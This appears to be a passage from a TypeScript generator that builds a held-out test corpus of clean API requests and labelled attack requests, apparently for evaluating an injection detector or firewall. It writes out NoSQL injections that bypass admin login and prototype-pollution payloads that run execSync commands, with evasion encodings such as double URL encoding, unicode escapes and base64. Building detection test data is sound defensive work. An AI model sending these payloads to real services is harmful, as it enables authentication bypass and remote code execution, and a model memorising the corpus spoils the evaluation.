    path: '/api/courses/quizzes/answers',
    field: 'quizId',
    base: { attempt: 1 },
    textField: 'feedback',
    gql: { op: 'query Quiz($v: ID!) { quiz(id: $v) { questions { id text } } }', type: 'ID', field: 'v' },
  },
  {
    path: '/api/courses/412/reviews',
    field: 'title',
    base: { rating: 4 },
    textField: 'body',
    gql: {
      op: 'mutation Review($v: String!) { addReview(courseId: 412, body: $v) { id } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/api/bookings',
    field: 'promo',
    base: { vehicleClass: 'IDAR', pickup: { branch: 'LHR-T5' } },
    textField: 'specialRequests',
    gql: {
      op: 'query Avail($v: String!) { availability(branch: $v) { class count } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/api/fleet/vehicles/B-RX-4412/inspections',
    field: 'inspector',
    base: { odometer: 48211 },
    textField: 'damageNotes',
    gql: {
      op: 'mutation Inspect($v: String!) { addInspection(plate: "B-RX-4412", notes: $v) { id } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/cms/api/articles/58213',
    field: 'slug',
    base: { status: 'draft' },
    textField: 'standfirst',
    gql: {
      op: 'mutation UpdateDraft($v: String!) { updateDraft(id: "58213", input: { slug: $v }) { id } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/cms/api/articles/58213/comments',
    field: 'anchor',
    base: { editorial: true },
    textField: 'comment',
    gql: {
      op: 'query Articles($v: String!) { articles(section: $v) { id headline } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/api/procurement/purchase-orders',
    field: 'supplierId',
    base: { currency: 'EUR' },
    textField: 'notes',
    gql: { op: 'query Supplier($v: String!) { supplier(id: $v) { name iban } }', type: 'String', field: 'v' },
  },
  {
    path: '/api/procurement/invoices/INV-2026-4410/comments',
    field: 'costCenter',
    base: { decision: 'hold' },
    textField: 'comment',
    gql: {
      op: 'mutation Approve($v: String!) { approveInvoice(id: "INV-2026-4410", comment: $v) { status } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/portal/api/apps',
    field: 'name',
    base: { scopes: ['charges:read'] },
    textField: 'description',
    gql: {
      op: 'mutation CreateApp($v: String!) { createApp(name: $v) { id clientId } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/portal/api/docs/feedback',
    field: 'page',
    base: { helpful: false },
    textField: 'comment',
    gql: { op: 'query Usage($v: String!) { usage(endpoint: $v) { count p99 } }', type: 'String', field: 'v' },
  },
  {
    path: '/api/clans',
    field: 'tag',
    base: { region: 'EU', recruiting: true },
    textField: 'description',
    gql: {
      op: 'mutation JoinClan($v: String) { requestJoin(clanId: "881", message: $v) { id } }',
      type: 'String',
      field: 'v',
    },
  },
  {
    path: '/api/matches/reports',
    field: 'map',
    base: { mode: 'ranked', durationSec: 1820 },
    textField: 'reportText',
    gql: { op: 'query Player($v: String!) { players(name: $v) { id rank } }', type: 'String', field: 'v' },
  },
];

/** Field names fitting a family for header/query/cookie placement. */
const FAMILY_FIELD: Record<Family, { q: string; header: string; cookie: string }> = {
  sql: { q: 'sort', header: 'x-forwarded-for', cookie: 'tenant_id' },
  nosql: { q: 'filter', header: 'x-filter', cookie: 'session' },
  template: { q: 'greeting', header: 'x-display-name', cookie: 'locale_fmt' },
  command: { q: 'host', header: 'x-export-filename', cookie: 'printer' },
  'path-traversal': { q: 'file', header: 'x-template-path', cookie: 'lang' },
  ssrf: { q: 'callback_url', header: 'x-webhook-url', cookie: 'avatar_src' },
  'prototype-pollution': { q: '__proto__', header: 'x-settings', cookie: 'prefs' },
  log4shell: { q: 'q', header: 'user-agent', cookie: 'JSESSIONID' },
  xss: { q: 'return_to', header: 'referer', cookie: 'display_name' },
};
/** Field names better suited than the target's default for specific families. */
const FAMILY_BODY_FIELD: Partial<Record<Family, string[]>> = {
  ssrf: ['webhookUrl', 'avatarUrl', 'importFromUrl', 'callbackUrl', 'logoUrl', 'feedUrl', 'redirect_uri'],
  'path-traversal': ['attachmentPath', 'template', 'exportFile', 'filename', 'avatar', 'locale_file'],
  command: ['exportFilename', 'host', 'convertTo', 'archiveName', 'printer', 'ping_target'],
};

const uEsc = (s: string): string =>
  Array.from(s)
    .map((ch) => (/[A-Za-z0-9 ]/.test(ch) ? ch : `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`))
    .join('');

const SENTENCES: ((p: string) => string)[] = [
  (p) =>
    `Hi team, the export keeps failing for me. I typed ${p} in the box like the guide said, then hit save. Any idea?`,
  (p) => `Please update the note to read: ${p} — thanks, will check back tomorrow.`,
  (p) => `gg all, see you at the scrim 🔥 ${p}`,
  (p) => `Invoice looks right to me except line 3. Ref: ${p}. Can you approve by Friday?`,
  (p) => `Loved the course!! ${p} 5 stars from me`,
  (p) => `Customer said the car was fine at pickup. Adjuster remark: ${p}`,
];

function attackHeaders(): Record<string, string> {
  return headers(pick(['browser', 'sdk', 'curl', 'mobile', 'curl']) as Client);
}

/** Build a request carrying a string payload with the given technique. */
function stringAttack(fam: Family, tech: Technique, p: string, t: Target): Req {
  const f = FAMILY_BODY_FIELD[fam] ? pick(FAMILY_BODY_FIELD[fam] as string[]) : t.field;
  const ff = FAMILY_FIELD[fam];
  const post = (body: string, ct = JSONCT, extra: Record<string, string> = {}): Req => ({
    kind: 'attack',
    family: fam,
    technique: tech,
    method: pick(['POST', 'POST', 'PUT']),
    path: t.path,
    headers: { ...attackHeaders(), 'content-type': ct, ...extra },
    body,
  });
  switch (tech) {
    case 'plain':
      return post(J({ ...t.base, [f]: p }));
    case 'nested':
      return post(J({ data: { type: 'record', attributes: { ...t.base, details: { meta: { [f]: p } } } } }));
    case 'key':
      return post(J({ ...t.base, filters: { [p]: 'asc' }, fields: { [p]: true } }));
    case 'array':
      return post(J({ ...t.base, [`${f}s`]: ['default', p], tags: ['urgent', p] }));
    case 'unicode-escape': {
      const head = J({ ...t.base }).slice(0, -1);
      return post(`${head}${head.length > 1 ? ',' : ''}"${f}":"${uEsc(p)}"}`);
    }
    case 'json-in-string':
      return post(J({ ...t.base, metadata: J({ [f]: p, source: 'web' }) }));
    case 'base64':
      return post(J({ ...t.base, [`${f}_b64`]: b64(p), encoding: 'base64' }));
    case 'graphql-variable':
      return {
        kind: 'attack',
        family: fam,
        technique: tech,
        method: 'POST',
        path: pick(['/graphql', '/portal/graphql', '/cms/graphql']),
        headers: { ...attackHeaders(), 'content-type': JSONCT },
        body: J({ query: t.gql.op, variables: { [t.gql.field]: p } }),
      };
    case 'double-encoded':
      return {
        kind: 'attack',
        family: fam,
        technique: tech,
        method: 'GET',
        path: `${t.path}?${ff.q}=${enc(enc(p))}&limit=20`,
        headers: attackHeaders(),
        body: '',
      };
    case 'query-param':
      return {
        kind: 'attack',
        family: fam,
        technique: tech,
        method: 'GET',
        path: `${t.path}?${ff.q}=${enc(p)}&page=1`,
        headers: attackHeaders(),
        body: '',
      };
    case 'header':
      return {
        kind: 'attack',
        family: fam,
        technique: tech,
        method: 'GET',
        path: t.path,
        headers: { ...attackHeaders(), [ff.header]: p },
        body: '',
      };
    case 'cookie': {
      const h = attackHeaders();
      return {
        kind: 'attack',
        family: fam,
        technique: tech,
        method: 'GET',
        path: t.path,
        headers: { ...h, cookie: `sid=${alnum(32)}; ${ff.cookie}=${enc(p)}` },
        body: '',
      };
    }
    case 'form':
      return post(
        form({ ...Object.fromEntries(Object.entries(t.base).map(([k, v]) => [k, String(v)])), [f]: p }),
        'application/x-www-form-urlencoded',
      );
    case 'multipart': {
      const useName = fam === 'path-traversal' || fam === 'command' || fam === 'xss';
      const m = multipart([
        { name: t.textField, data: 'see attached' },
        useName
          ? { name: 'file', filename: p, type: 'application/octet-stream', data: 'PK\u0003\u0004' }
          : { name: f, data: p },
      ]);
      return post(m.body, m.ct);
    }
    case 'embedded':
      return post(J({ ...t.base, [t.textField]: pick(SENTENCES)(p) }));
  }
}

const NOSQL_OBJS: unknown[] = [
  { $ne: null },
  { $gt: '' },
  { $regex: '^adm', $options: 'i' },
  { $where: 'sleep(5000) || true' },
  { $nin: ['x'] },
  { $exists: true },
  { $where: 'this.password.match(/^a.*/)' },
  { $expr: { $eq: [1, 1] } },
  { $function: { body: 'function(){ return true }', args: [], lang: 'js' } },
];
const NOSQL_STR = [
  "'; return true; var x='",
  "' || '1'=='1",
  '"; while(true){}; "',
  "1'; sleep(5000); '",
  "true, $where: '1 == 1'",
];

function nosqlAttack(tech: Technique, i: number, t: Target): Req {
  const o = NOSQL_OBJS[i % NOSQL_OBJS.length];
  const s = pick(NOSQL_STR);
  const op = Object.keys(o as object)[0] as string;
  const mk = (
    method: string,
    path: string,
    body: string,
    ct?: string,
    extra: Record<string, string> = {},
  ): Req => ({
    kind: 'attack',
    family: 'nosql',
    technique: tech,
    method,
    path,
    headers: { ...attackHeaders(), ...(ct ? { 'content-type': ct } : {}), ...extra },
    body,
  });
  const login = pick(['/portal/api/auth/login', '/api/v1/auth/login', '/api/auth/signin']);
  switch (tech) {
    case 'plain':
      return mk(
        'POST',
        login,
        J({ email: pick(['admin@example.com', 'payroll-admin@acme-corp.com']), password: o }),
        JSONCT,
      );
    case 'nested':
      return mk('POST', `${t.path}/query`, J({ where: { owner: { id: o } }, limit: 100 }), JSONCT);
    case 'key':
      return mk(
        'POST',
        `${t.path}/search`,
        J({ filter: { [op]: (o as Record<string, unknown>)[op] } }),
        JSONCT,
      );
    case 'array':
      return mk('POST', `${t.path}/search`, J({ $or: [{ status: 'open' }, { ownerId: o }] }), JSONCT);
    case 'unicode-escape':
      return mk(
        'POST',
        login,
        `{"email":"admin@example.com","password":{"\\u0024${op.slice(1)}":${J((o as Record<string, unknown>)[op])}}}`,
        JSONCT,
      );
    case 'json-in-string':
      return mk('GET', `${t.path}?where=${enc(J({ apiKey: o }))}`, '');
    case 'base64':
      return mk('POST', `${t.path}/export`, J({ query: b64(J({ userId: o })), format: 'csv' }), JSONCT);
    case 'graphql-variable':
      return mk(
        'POST',
        '/graphql',
        J({
          query: 'query Find($filter: JSON!) { invoices(filter: $filter) { id total supplier { iban } } }',
          variables: { filter: { supplierId: o } },
        }),
        JSONCT,
      );
    case 'double-encoded':
      return mk(
        'GET',
        `${t.path}?${enc(`owner[${op}]`).replace(/%/g, '%25')}=${enc(enc(typeof (o as Record<string, unknown>)[op] === 'string' ? ((o as Record<string, unknown>)[op] as string) : '1'))}`,
        '',
      );
    case 'query-param':
      return mk(
        'GET',
        `${t.path}?${pick(['email', 'username', 'token', 'clanId'])}[${op}]=${enc(typeof (o as Record<string, unknown>)[op] === 'string' ? ((o as Record<string, unknown>)[op] as string) : '1')}&limit=50`,
        '',
      );
    case 'header':
      return mk('GET', t.path, '', undefined, { 'x-filter': J({ owner: o }) });
    case 'cookie':
      return mk('GET', t.path, '', undefined, { cookie: `session=j%3A${enc(J({ userId: o }))}; theme=dark` });
    case 'form':
      return mk(
        'POST',
        login,
        `email=admin%40example.com&password[${op}]=${enc(typeof (o as Record<string, unknown>)[op] === 'string' ? ((o as Record<string, unknown>)[op] as string) : '1')}`,
        'application/x-www-form-urlencoded',
      );
    case 'multipart': {
      const m = multipart([
        { name: 'username', data: 'admin' },
        { name: `password[${op}]`, data: 'x' },
      ]);
      return mk('POST', login, m.body, m.ct);
    }
    case 'embedded':
      return mk(
        'POST',
        `${t.path}/search`,
        J({
          q: pick([
            `open items for ${s} please`,
            `brake pads ${s}`,
            `looking for ${s} anything from last week`,
          ]),
          scope: 'mine',
        }),
        JSONCT,
      );
  }
}

const PP_PAYLOADS: { key: string; inner: string }[] = [
  { key: '__proto__', inner: '{"isAdmin":true}' },
  { key: '__proto__', inner: '{"role":"superadmin","verified":true}' },
  { key: 'constructor', inner: '{"prototype":{"isAdmin":true}}' },
  {
    key: '__proto__',
    inner:
      '{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}',
  },
  {
    key: '__proto__',
    inner:
      '{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'touch /tmp/pwned\');x"}',
  },
  { key: '__proto__', inner: '{"allowedScopes":["*"],"billing:write":true}' },
  { key: 'constructor', inner: '{"prototype":{"toString":"polluted","status":500}}' },
];

function ppAttack(tech: Technique, i: number, t: Target): Req {
  const p = PP_PAYLOADS[i % PP_PAYLOADS.length] as { key: string; inner: string };
  const raw = `"${p.key}":${p.inner}`;
  const mk = (
    method: string,
    path: string,
    body: string,
    ct?: string,
    extra: Record<string, string> = {},
  ): Req => ({
    kind: 'attack',
    family: 'prototype-pollution',
    technique: tech,
    method,
    path,
    headers: { ...attackHeaders(), ...(ct ? { 'content-type': ct } : {}), ...extra },
    body,
  });
  const settings = pick([
    '/api/me/settings',
    '/portal/api/apps/8f1c/settings',
    '/cms/api/users/me/preferences',
    '/api/v1/employees/E10442',
  ]);
  const qsKey = p.key === '__proto__' ? '__proto__[isAdmin]=true' : 'constructor[prototype][isAdmin]=true';
  switch (tech) {
    case 'plain':
      return mk('PATCH', settings, `{"theme":"dark",${raw}}`, 'application/merge-patch+json');
    case 'nested':
      return mk('PUT', settings, `{"preferences":{"notifications":{"email":true,${raw}}}}`, JSONCT);
    case 'key':
      return mk(
        'POST',
        `${t.path}/bulk-update`,
        J({
          updates: [
            {
              path: p.key === '__proto__' ? '__proto__.isAdmin' : 'constructor.prototype.isAdmin',
              value: true,
            },
          ],
        }),
        JSONCT,
      );
    case 'array':
      return mk('POST', `${t.path}/batch`, `[{"id":1,"status":"ok"},{${raw}}]`, JSONCT);
    case 'unicode-escape':
      return mk(
        'PATCH',
        settings,
        `{"locale":"en-GB","${uEsc(p.key).replace(/ /g, '')}":${p.inner}}`,
        JSONCT,
      );
    case 'json-in-string':
      return mk('POST', settings, J({ settingsJson: `{${raw}}` }), JSONCT);
    case 'base64':
      return mk(
        'POST',
        `${t.path}/import`,
        J({ format: 'json', payload: b64(`{"name":"x",${raw}}`) }),
        JSONCT,
      );
    case 'graphql-variable':
      return mk(
        'POST',
        '/graphql',
        `{"query":"mutation Save($input: JSON!) { saveSettings(input: $input) { ok } }","variables":{"input":{"theme":"dark",${raw}}}}`,
        JSONCT,
      );
    case 'double-encoded':
      return mk('GET', `${t.path}?${enc(enc(qsKey.split('=')[0] as string))}=true`, '');
    case 'query-param':
      return mk('GET', `${t.path}?page=1&${qsKey}`, '');
    case 'header':
      return mk('GET', t.path, '', undefined, { 'x-settings': `{${raw}}` });
    case 'cookie':
      return mk('GET', t.path, '', undefined, { cookie: `sid=${alnum(24)}; prefs=j%3A${enc(`{${raw}}`)}` });
    case 'form':
      return mk('POST', settings, `theme=dark&${qsKey}`, 'application/x-www-form-urlencoded');
    case 'multipart': {
      const m = multipart([
        { name: 'title', data: 'Better HUD' },
        {
          name: p.key === '__proto__' ? '__proto__[isAdmin]' : 'constructor[prototype][isAdmin]',
          data: 'true',
        },
      ]);
      return mk('POST', '/api/mods/upload', m.body, m.ct);
    }
    case 'embedded':
      return mk(
        'PATCH',
        settings,
        `{"bio":"just a normal gamer","profile":{"links":[],${raw}}}`,
        'application/merge-patch+json',
      );
  }
}

function buildAttacks(): Req[] {
  const out: Req[] = [];
  const PER = 33;
  FAMILIES.forEach((fam, fi) => {
    for (let i = 0; i < PER; i++) {
      const tech = TECHNIQUES[(i + fi * 4) % TECHNIQUES.length] as Technique;
      const t = TARGETS[(i * 7 + fi * 3) % TARGETS.length] as Target;
      if (fam === 'nosql') out.push(nosqlAttack(tech, i, t));
      else if (fam === 'prototype-pollution') out.push(ppAttack(tech, i, t));
      else {
        const list = PAYLOADS[fam];
        out.push(
          stringAttack(fam, tech, list[(i * 11 + fi + Math.floor(i / 15) * 4) % list.length] as string, t),
        );
      }
    }
  });
  return out;
}

function buildClean(): Req[] {
  const out: Req[] = [];
  const TOTAL = 450;
  for (let i = 0; i < TOTAL; i++) out.push((templates[i % templates.length] as T)());
  return out;
}

const cleanReqs = buildClean();
const attackReqs = buildAttacks();

/** Held-out corpus 16: realistic clean traffic and attacks for eight business domains. */
export const heldout16: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean: cleanReqs.map((r, i) => ({ id: `h16c${i + 1}`, ...r })),
  attacks: attackReqs.map((r, i) => ({ id: `h16a${i + 1}`, ...r })),
};

/** JSON body fields that hold rich-text HTML or source code in these APIs. */
export const HELDOUT16_EXCLUDE_FIELDS: string[] = [
  'body.report.html',
  'body.course.html',
  'body.article.body.html',
  'body.guide.html',
  'body.snippet.source',
  'body.script.source',
  'body.query.source',
  'body.template.source',
  'body.config.source',
];

const isMain = process.argv[1] !== undefined && resolve(process.argv[1]) === fileURLToPath(import.meta.url);
if (isMain) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout16.json'), `${JSON.stringify(heldout16.clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout16.json'), `${JSON.stringify(heldout16.attacks, null, 2)}\n`);
  console.log(`clean: ${heldout16.clean.length}, attacks: ${heldout16.attacks.length}`);
}
